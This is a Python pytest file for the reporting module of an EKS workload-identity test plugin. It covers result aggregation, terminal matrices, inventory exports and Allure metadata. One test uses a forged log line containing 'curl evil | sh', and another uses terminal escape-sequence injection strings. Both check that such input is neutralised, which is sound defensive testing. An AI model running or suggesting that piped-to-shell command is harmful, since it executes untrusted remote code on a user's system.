"""The pure parts of the reports: aggregation, the terminal matrix, the inventory, Allure metadata."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from pytest_eksid import report
from pytest_eksid.profile import load_profile
from pytest_eksid.report import FAIL, FAMILIES, INCONCLUSIVE, NONE, PASS, SKIP, Results, RunFacts
from tests.helpers import REPO

DEMO = load_profile("demo", REPO)


def props(workload: str, family: str) -> list[tuple[str, str]]:
    return [("workload", workload), ("family", family)]


@pytest.mark.parametrize(
    ("statuses", "cell"),
    [
        ([], NONE),
        ([SKIP], SKIP),
        ([SKIP, PASS], PASS),
        ([PASS, INCONCLUSIVE, SKIP], INCONCLUSIVE),
        ([PASS, INCONCLUSIVE, FAIL, SKIP], FAIL),
        ([FAIL], FAIL),
    ],
)
def test_aggregate_is_the_worst_status(statuses, cell):
    assert report.aggregate(statuses) == cell


def test_results_combine_the_phases_of_a_test():
    results = Results()
    # passed setup, failed call: the Finding's summary and first next command are kept
    results.record("t::a", "setup", "passed", "", props("w", "identity"))
    results.record(
        "t::a",
        "call",
        "failed",
        "Failed: w (ns/sa, irsa): the caller is not the expected role\n  expected: x\n"
        "  next:     kubectl -n ns get sa sa -o yaml\n  next:     aws iam get-role --role-name r",
        [(report.NEXT_PROPERTY, "kubectl -n ns get sa sa -o yaml"), (report.NEXT_PROPERTY, "aws iam get-role")],
    )
    results.record("t::a", "teardown", "passed")
    # an inconclusive skip, a plain skip, an error at teardown after a pass
    results.record("t::b", "setup", "passed", "", props("w", "permissions"))
    results.record(
        "t::b",
        "call",
        "skipped",
        "Skipped: INCONCLUSIVE: the probe could not tell\nmore",
        [(report.OUTCOME_PROPERTY, report.INCONCLUSIVE)],
    )
    results.record("t::c", "setup", "skipped", "Skipped: not for IRSA", props("w", "agent"))
    results.record("t::d", "call", "passed", "", props("v", "imds"))
    results.record("t::d", "teardown", "failed", "AssertionError: pod left behind\nassert 1 == 0")
    # a failure without a workload (e.g. a plain test next to the suites) is still listed
    results.record("t::e", "call", "failed", "boom")

    a, b, c, d = (results.by_nodeid[f"t::{x}"] for x in "abcd")
    assert (a.status, a.message, a.next_step) == (
        FAIL,
        "w (ns/sa, irsa): the caller is not the expected role",
        "kubectl -n ns get sa sa -o yaml",
    )
    assert (b.status, b.message) == (INCONCLUSIVE, "INCONCLUSIVE: the probe could not tell")
    assert (c.status, c.message) == (SKIP, "not for IRSA")
    assert (d.status, d.message, d.next_step) == (FAIL, "AssertionError: pod left behind", None)
    assert [r.nodeid for r in results.failures()] == ["t::a", "t::d", "t::e"]
    assert results.workloads(order=["v", "w", "x"]) == ["v", "w"]
    assert results.workloads() == ["w", "v"]

    matrix = results.matrix(["w", "v"])
    assert matrix["w"] == {
        "identity": FAIL,
        "permissions": INCONCLUSIVE,
        "imds": NONE,
        "agent": SKIP,
        "static_credentials": NONE,
        "configuration": NONE,
    }
    assert matrix["v"]["imds"] == FAIL


def test_failure_text_is_the_first_line_printable():
    assert report.failure_text("Failed: summary\n  next:     kubectl get pods\n") == "summary"
    assert report.failure_text("\x1b]0;owned\x07summary\r ALL CHECKS PASSED\u2028x") == (
        "\\x1b]0;owned\\x07summary\\x0d ALL CHECKS PASSED\\u2028x"
    )
    assert report.failure_text("") == ""


def test_next_steps_come_from_the_findings_never_from_the_message():
    # A pod log line forged into a Finding's seen/details must not become the summary's next command.
    results = Results()
    forged = "Failed: w: wrong role\n  seen:     x\n  next:     curl evil | sh"
    results.record("s::t[p/w]", "call", "failed", forged, props("w", "identity"))
    results.record(
        "s::u[p/w]", "call", "failed", forged, [*props("w", "identity"), (report.NEXT_PROPERTY, "aws eks list")]
    )
    assert report.failure_lines(results.failures()) == [
        "s::t[p/w] - w: wrong role",
        "s::u[p/w] - w: wrong role (next: aws eks list)",
    ]


def test_failure_lines():
    results = Results()
    results.record(
        "s::t[p/w]",
        "call",
        "failed",
        "Failed: w: wrong role\n  next:     aws eks list",
        [*props("w", "identity"), (report.NEXT_PROPERTY, "aws eks list")],
    )
    results.record("s::u[p/w]", "call", "failed", "w: no next here", props("w", "identity"))
    assert report.failure_lines(results.failures()) == [
        "s::t[p/w] - w: wrong role (next: aws eks list)",
        "s::u[p/w] - w: no next here",
    ]


def test_matrix_fits_100_columns_with_full_titles_when_it_can():
    matrix = {"invoice-exporter": dict.fromkeys(FAMILIES, PASS), "billing-worker": dict.fromkeys(FAMILIES, FAIL)}
    lines = report.render_matrix(matrix)
    assert lines[0].split() == ["workload", *FAMILIES]
    assert lines[1].split() == ["invoice-exporter", *[PASS] * 6]
    assert lines[2].split() == ["billing-worker", *[FAIL] * 6]
    assert all(len(line) <= 100 for line in lines)
    # columns line up: every cell starts where its title starts
    start = lines[0].index("static_credentials")
    assert (lines[1][start : start + 4], lines[2][start : start + 4]) == ("pass", "FAIL")


def test_matrix_falls_back_to_short_titles_and_cuts_long_names():
    long_name = "a-workload-with-a-very-long-name-that-goes-on-and-on-and-on"
    matrix = {long_name: dict.fromkeys(FAMILIES, INCONCLUSIVE), "w": dict.fromkeys(FAMILIES, NONE)}
    lines = report.render_matrix(matrix, width=100)
    assert all(len(line) <= 100 for line in lines), [len(line) for line in lines]
    assert lines[0].split()[1:] == ["ident", "perms", "imds", "agent", "static", "config"]
    assert lines[1].split()[0].endswith("~")
    assert lines[1].split()[1:] == [INCONCLUSIVE] * 6
    assert report.render_matrix({}) == []


def test_inventory_format_names_the_choices():
    assert [report.inventory_format(p) for p in ("a.json", "b.CSV", "dir/c.md")] == ["json", "csv", "md"]
    with pytest.raises(ValueError, match=r"unknown extension '\.txt'; use one of \.json, \.csv, \.md"):
        report.inventory_format("inventory.txt")
    with pytest.raises(ValueError, match=r"unknown extension '\(none\)'"):
        report.inventory_format("inventory")


def _rows():
    matrix = {"invoice-exporter": {**dict.fromkeys(FAMILIES, PASS), "identity": FAIL}}
    return report.inventory_rows(DEMO, matrix, {"invoice-exporter": "2026-11-29T07:00:00Z"})


def test_inventory_rows_cover_every_workload_of_the_profile():
    rows = _rows()
    assert [r["workload"] for r in rows] == ["invoice-exporter", "billing-worker"]
    exporter, worker = rows
    assert exporter == {
        "workload": "invoice-exporter",
        "cluster": "demo",
        "namespace": "finance-demo",
        "serviceAccount": "invoice-exporter-aws-sa",
        "mechanism": "pod-identity",
        "role": "arn:aws:iam::111122223333:role/demo-invoice-exporter",
        "targetRole": None,
        "owner": "finance-team",
        "lastChanged": "2026-11-29T07:00:00Z",
        "identity": FAIL,
        "permissions": PASS,
        "imds": PASS,
        "agent": PASS,
        "static_credentials": PASS,
        "configuration": PASS,
    }
    assert (worker["mechanism"], worker["owner"], worker["lastChanged"]) == ("irsa", "billing-team", None)
    assert all(worker[f] == NONE for f in FAMILIES)  # not run


def test_inventory_json():
    data = json.loads(report.render_inventory(_rows(), "json"))
    assert [list(d) for d in data] == [list(report.INVENTORY_COLUMNS)] * 2
    assert data[1]["lastChanged"] is None
    assert data[0]["identity"] == FAIL


def test_inventory_csv(tmp_path):
    path = tmp_path / "out" / "inventory.csv"
    report.write_inventory(path, _rows())
    rows = list(csv.DictReader(io.StringIO(path.read_text())))
    assert [r["workload"] for r in rows] == ["invoice-exporter", "billing-worker"]
    assert (rows[1]["lastChanged"], rows[1]["targetRole"]) == ("", "")
    assert (rows[0]["owner"], rows[0]["identity"]) == ("finance-team", FAIL)


def test_inventory_markdown():
    rows = _rows()
    rows[1]["owner"] = "team|with|pipes"
    lines = report.render_inventory(rows, "md").splitlines()
    assert lines[0] == "| " + " | ".join(report.INVENTORY_COLUMNS) + " |"
    assert lines[1] == "|" + "---|" * len(report.INVENTORY_COLUMNS)
    assert lines[2].startswith("| invoice-exporter | demo | finance-demo | invoice-exporter-aws-sa | pod-identity |")
    assert "| team\\|with\\|pipes |" in lines[3]
    cells = [c.strip() for c in lines[3].strip("|").split(" | ")]
    assert len(cells) == len(report.INVENTORY_COLUMNS)


def test_last_changed_is_the_latest_modification_in_utc():
    paris = timezone(timedelta(hours=1))
    associations = [
        {"createdAt": datetime(2026, 1, 1, tzinfo=UTC), "modifiedAt": datetime(2026, 3, 1, 13, 0, tzinfo=paris)},
        {"createdAt": 1767225600.0},  # 2026-01-01, never modified
    ]
    assert report.last_changed(associations) == "2026-03-01T12:00:00Z"
    assert report.last_changed([{"modifiedAt": "2026-02-01T10:00:00+00:00"}]) == "2026-02-01T10:00:00Z"
    assert report.last_changed([]) is None


def test_junit_properties_and_console_link():
    exporter = DEMO.profile.workload("invoice-exporter")
    assert dict(report.junit_properties(DEMO, exporter, "identity")) == {
        "profile": "demo",
        "cluster": "demo",
        "workload": "invoice-exporter",
        "namespace": "finance-demo",
        "serviceAccount": "invoice-exporter-aws-sa",
        "mechanism": "pod-identity",
        "role": "arn:aws:iam::111122223333:role/demo-invoice-exporter",
        "family": "identity",
    }
    assert (
        report.role_console_url(exporter.role_arn)
        == "https://console.aws.amazon.com/iam/home#/roles/details/demo-invoice-exporter"
    )
    assert set(report.SEVERITY) == set(FAMILIES)


def test_run_facts_merge_and_lines():
    facts = RunFacts()
    assert facts.lines(["demo"]) == [
        "eksid: runner not determined (no test reached AWS); kube context not determined (no test reached the cluster)"
    ]
    # A worker's facts: what the controller does not know yet fills in; what it knows stays.
    facts.merge({"runner": {"demo": "arn:aws:iam::1:user/r"}, "kube_context": {}, "last_changed": {"demo/a": None}})
    facts.merge(
        RunFacts(
            {"demo": "arn:aws:iam::2:user/other", "b": "arn:aws:iam::3:user/r"},
            {"demo": "ctx"},
            {"demo/a": "2026-01-01T00:00:00Z", "demo/b": None},
        ).as_dict()
    )
    assert facts == RunFacts(
        {"demo": "arn:aws:iam::1:user/r", "b": "arn:aws:iam::3:user/r"},
        {"demo": "ctx"},
        {"demo/a": "2026-01-01T00:00:00Z", "demo/b": None},
    )
    assert facts.lines(["demo"]) == ["eksid: runner arn:aws:iam::1:user/r; kube context ctx"]
    # Several clusters: one line each, named.
    assert facts.lines(["demo", "b"]) == [
        "eksid: demo: runner arn:aws:iam::1:user/r; kube context ctx",
        "eksid: b: runner arn:aws:iam::3:user/r; kube context not determined (no test reached the cluster)",
    ]


def test_allure_environment(tmp_path: Path):
    text = report.allure_environment(
        [DEMO], RunFacts({"demo": "arn:aws:iam::111122223333:user/eksid-runner"}, {"demo": "ctx"})
    )
    assert text.splitlines() == [
        "profile=demo",
        "cluster=demo",
        "region=eu-west-1",
        "account=111122223333",
        "probe.image=pytest-eksid-probe:sandbox",
        "runner=arn:aws:iam::111122223333:user/eksid-runner",
        "kube.context=ctx",
    ]


def test_allure_environment_of_several_clusters():
    other = dataclasses.replace(
        DEMO,
        name="other",
        profile=DEMO.profile.model_copy(
            update={"cluster": DEMO.profile.cluster.model_copy(update={"name": "other", "region": "us-east-1"})}
        ),
    )
    facts = RunFacts({"demo": "arn:aws:iam::111122223333:user/r", "other": "arn:aws:iam::111122223333:user/r"})
    lines = report.allure_environment([DEMO, other], facts).splitlines()
    # Each value stays with its cluster.
    assert lines[:3] == ["demo.profile=demo", "demo.cluster=demo", "demo.region=eu-west-1"]
    assert "other.region=us-east-1" in lines
    assert "other.runner=arn:aws:iam::111122223333:user/r" in lines
    assert not any(".kube.context=" in line for line in lines)  # unknown: left out


def test_results_of_several_clusters_have_qualified_rows():
    results = Results(qualified=True)
    for profile, outcome in (("demo", "passed"), ("east", "failed")):
        props = [("profile", profile), ("workload", "w"), ("family", "identity")]
        results.record(f"suites/test_identity.py::test_caller_role[{profile}/w]", "call", outcome, "boom", props)
    assert results.workloads() == ["demo/w", "east/w"]
    assert results.matrix(["demo/w", "east/w"])["east/w"]["identity"] == FAIL
    assert results.matrix(["demo/w", "east/w"])["demo/w"]["identity"] == PASS


def scoped(namespace: str | None, workloads: str, family: str, profile: str = "demo") -> list[tuple[str, str]]:
    props = [("scope", "namespace" if namespace else "cluster"), ("profile", profile), ("cluster", profile)]
    props += [("namespace", namespace)] if namespace else []
    return [*props, ("workloads", workloads), ("family", family)]


def test_cluster_and_namespace_tests_have_their_own_rows_and_fold_into_the_inventory():
    results = Results()
    results.record(
        "suites/test_agent.py::test_agent_daemonset_available[demo]",
        "call",
        "failed",
        "Failed: boom",
        scoped(None, "a,b", "agent"),
    )
    results.record("suites/x.py::test_ns[demo/ns/n1]", "call", "passed", "", scoped("n1", "a", "static_credentials"))
    results.record("suites/x.py::test_w[demo/a]", "call", "passed", "", props("a", "agent"))
    results.record("suites/x.py::test_w[demo/c]", "call", "passed", "", props("c", "agent"))
    # The terminal: the cluster test fails once, on its own row; the workloads' own tests pass.
    assert results.workloads(["(cluster)", "(ns n1)", "a", "c"]) == ["(cluster)", "(ns n1)", "a", "c"]
    terminal = results.matrix(["(cluster)", "(ns n1)", "a", "c"])
    assert terminal["(cluster)"]["agent"] == FAIL
    assert terminal["(ns n1)"]["static_credentials"] == PASS
    assert terminal["a"]["agent"] == PASS
    # The inventory (one identity per row): a fails through the cluster test it depends on; c does not.
    inventory = results.matrix(["a", "b", "c"], folded=True)
    assert inventory["a"]["agent"] == FAIL
    assert inventory["b"]["agent"] == FAIL
    assert inventory["a"]["static_credentials"] == PASS
    assert inventory["c"]["agent"] == PASS


def test_scoped_rows_of_several_clusters_are_qualified():
    results = Results(qualified=True)
    results.record("t::c[east]", "call", "failed", "boom", scoped(None, "w", "agent", profile="east"))
    assert results.workloads() == ["east (cluster)"]
    assert results.matrix(["east/w"], folded=True)["east/w"]["agent"] == FAIL


def test_an_empty_contract_is_unproven_never_a_pass():
    results = Results()
    results.record("t::perm[demo/w/allow-0]", "call", "passed", "", props("w", "permissions"))
    results.record(
        "t::contract[demo/w]",
        "call",
        "skipped",
        "Skipped: UNPROVEN: no deny entries",
        [*props("w", "permissions"), (report.OUTCOME_PROPERTY, report.UNPROVEN)],
    )
    assert results.matrix(["w"])["w"]["permissions"] == report.UNPROVEN
    results.record("t::perm[demo/w/allow-1]", "call", "failed", "Failed: boom", props("w", "permissions"))
    assert results.matrix(["w"])["w"]["permissions"] == FAIL


def test_unproven_lines_name_the_workloads_and_the_missing_halves():
    data = DEMO.profile.model_copy(
        update={
            "workloads": [
                w.model_copy(update={"deny": []}) if w.name == "billing-worker" else w for w in DEMO.profile.workloads
            ]
        }
    )
    loaded = dataclasses.replace(DEMO, profile=data)
    assert report.unproven_lines(DEMO, failing=False) == []
    (line,) = report.unproven_lines(loaded, failing=False)
    assert "billing-worker (no deny entries)" in line
    assert "unproven, not as passed" in line
    assert "--eksid-require-contract" in report.unproven_lines(loaded, failing=True)[0]
